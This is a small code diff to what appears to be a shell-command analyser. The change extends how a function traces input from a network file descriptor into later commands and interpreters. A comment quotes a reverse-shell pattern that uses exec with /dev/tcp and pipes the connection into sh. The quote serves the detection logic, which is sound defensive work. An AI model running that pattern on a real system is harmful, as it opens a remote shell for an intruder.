@@ -88,9 +88,11 @@ def _connected(
         return command
     if not command.words:
         # `exec 3<>/dev/tcp/host/80; …; sh <&3`
-        for other in commands[index + 1 : index + 50]:
-            if interpreter(other) and any("<&" in operator for operator, _ in other.redirects):
-                return other
+        for place, other in enumerate(commands[index + 1 : index + 50], start=index + 1):
+            if any("<&" in operator for operator, _ in other.redirects):
+                if interpreter(other):
+                    return other
+                return _runner(commands, place, by_pipeline, other.outputs)
     return _runner(commands, index, by_pipeline, ())
 
 
